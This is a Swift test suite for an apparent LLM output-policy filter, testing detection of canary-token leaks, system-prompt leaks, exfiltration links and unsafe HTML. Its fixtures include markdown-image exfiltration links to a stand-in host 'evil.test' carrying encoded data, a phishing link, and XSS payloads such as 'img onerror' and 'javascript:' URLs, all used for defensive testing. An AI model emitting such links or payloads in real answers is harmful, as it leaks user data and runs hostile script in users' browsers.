import PalisadeCore
import Testing
@testable import PalisadePolicy

@Suite struct OutputCheckTests {
    static let systemPrompt = "You are the billing assistant of Example Corp. Never offer refunds above fifty euros without a manager approval code, and never discuss the internal escalation matrix with customers."

    @Test func canaryTokenIsDeterministicPerApplicationAndSecret() {
        let secret = Array("s3cret".utf8)
        let token = CanaryToken(secret: secret, applicationID: "app-1")
        #expect(token == CanaryToken(secret: secret, applicationID: "app-1"))
        #expect(token != CanaryToken(secret: secret, applicationID: "app-2"))
        #expect(token != CanaryToken(secret: Array("other".utf8), applicationID: "app-1"))
        #expect(token.value.hasPrefix("pal-canary-") && token.value.count == 27)
        #expect(token.value.dropFirst(11).allSatisfy { "abcdefghijklmnopqrstuvwxyz234567".contains($0) })
        #expect(token.systemPromptText.contains(token.value))
    }

    @Test func canaryLeakIsFoundIgnoringCase() {
        let detector = CanaryLeakDetector(canary: "pal-canary-abcdefgh23456789")
        let findings = detector.detect(in: "ref: PAL-CANARY-ABCDEFGH23456789.")
        #expect(findings.map(\.type) == [PolicyFindingType.canaryLeak])
        #expect(findings.first?.utf8Range == 5..<32)
        #expect(detector.detect(in: "pal-canary-abcdefgh2345678").isEmpty)
    }

    @Test func systemPromptLeakNeedsALongVerbatimRun() throws {
        let detector = try #require(SystemPromptLeakDetector(systemPrompt: Self.systemPrompt))
        let leak = "Sure! My instructions say: never offer refunds above fifty euros without a manager approval code, and so on."
        let findings = detector.detect(in: leak)
        #expect(findings.map(\.type) == [PolicyFindingType.systemPromptLeak])
        #expect(findings.first?.evidence.hasPrefix("12 consecutive words") == true)
        #expect(detector.detect(in: "You are the billing assistant. How can I help with refunds today?").isEmpty)
        #expect(SystemPromptLeakDetector(systemPrompt: "Be brief.") == nil)
    }

    @Test func exfiltrationLinksToOtherDomains() {
        let detector = ExfiltrationLinkDetector(allowedDomains: ["example.com", "*.example.org"])
        let text = """
        See [docs](https://example.com/a) and ![x](https://evil.test/p.png?d=c2VjcmV0) or \
        [click](http://phish.test/login), https://cdn.example.org/f.js, https://raw.example.org.evil.test/x.
        """
        let findings = detector.detect(in: text)
        #expect(findings.map(\.evidence) == [
            "markdown image to evil.test with a query string",
            "markdown link to phish.test",
            "URL to raw.example.org.evil.test",
        ])
        #expect(findings.map(\.severity) == [.critical, .medium, .medium])
    }

    /// Brackets are matched once per answer, not once per link: a line of thousands of links
    /// still tells the image at its end.
    @Test func linkFormsOnALongLineOfLinks() {
        let detector = ExfiltrationLinkDetector(allowedDomains: ["example.com"])
        let line = String(repeating: "[a](http://a.test) ", count: 20_000) + "![i](http://evil.test/p.png?d=x) [b [c]](http://b.test)"
        let findings = detector.detect(in: line)
        #expect(findings.count == 20_002)
        #expect(findings.suffix(2).map(\.evidence) == ["markdown image to evil.test with a query string", "markdown link to b.test"])
        #expect(detector.detect(in: "![i\n](http://evil.test/)").map(\.evidence) == ["markdown link to evil.test"])
    }

    @Test func unsafeMarkup() {
        let detector = UnsafeHTMLDetector()
        for text in [
            "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[a](javascript:alert(1))", "<IFRAME src=//x>", "< embed src=x.swf>",
            "<svg/onload=alert(1)>", "<a href=\"#\"\n   onMouseOver = \"steal()\">hi</a>", "<div srcdoc=\"<b>x</b>\"></div>", "Click <a href='JavaScript :void(0)'>",
        ] {
            #expect(detector.detect(in: text).map(\.type) == [PolicyFindingType.unsafeHTML], "\(text)")
        }
        for text in [
            "Use <b>bold</b> text", "one < two and three > two", "the onerror handler is documented", "<b>bold</b> then onclick=go()",
            "<scripts> are files", "myjavascript: notes", "<frames>", "a <b> on=1",
        ] {
            #expect(detector.detect(in: text).isEmpty, "\(text)")
        }
        let evidence = detector.detect(in: "text <img src=x onerror=alert(1)> more")
        #expect(evidence.map(\.utf8Range) == [5..<24])
    }

    /// An answer is text that injected instructions can shape: unclosed tags by the thousand must
    /// cost one pass, not one pass per tag.
    @Test func unclosedTagsAreScannedOnce() {
        let detector = UnsafeHTMLDetector()
        #expect(detector.detect(in: String(repeating: "<a ", count: 50_000)).isEmpty)
        #expect(detector.detect(in: String(repeating: "<a ", count: 50_000) + " onclick=x").count == 1)
    }

    @Test func outputEvaluationRunsTheConfiguredChecks() throws {
        let policy = try PolicyFixtures.load("""
        version: 1
        default:
          output:
            canary: true
            system_prompt_leak: flag
            links: { allowed_domains: [example.com] }
            html: false
        """).defaultPolicy
        #expect(policy.usesCanary)
        let request = PolicyFixtures.chat(system: Self.systemPrompt)
        let canary = CanaryToken(secret: Array("k".utf8), applicationID: "a").value
        func decide(_ answer: String) throws -> PolicyDecision {
            try policy.evaluateOutput(segments: [Segment(role: .assistant, text: answer, path: "choices[0].message.content")], toolCalls: [], findings: [], request: request, canary: canary)
        }
        let leak = try decide("My reference is \(canary).")
        #expect(leak.errorCode == "policy_output_leak" && leak.matchedRuleIDs == ["output.canary"])
        #expect(leak.matches.first?.finding?.role == .assistant && leak.matches.first?.finding?.direction == .output)
        #expect(try decide("![i](https://evil.test/x.png?q=1)").errorCode == "policy_exfiltration_link")
        #expect(try decide("<script>x</script> at https://example.com").action == .allow)
        let prompt = try decide("Rules: never offer refunds above fifty euros without a manager approval code, and never discuss it.")
        #expect(prompt.action == .flag && prompt.matchedRuleIDs == ["output.system_prompt_leak"])
    }
}
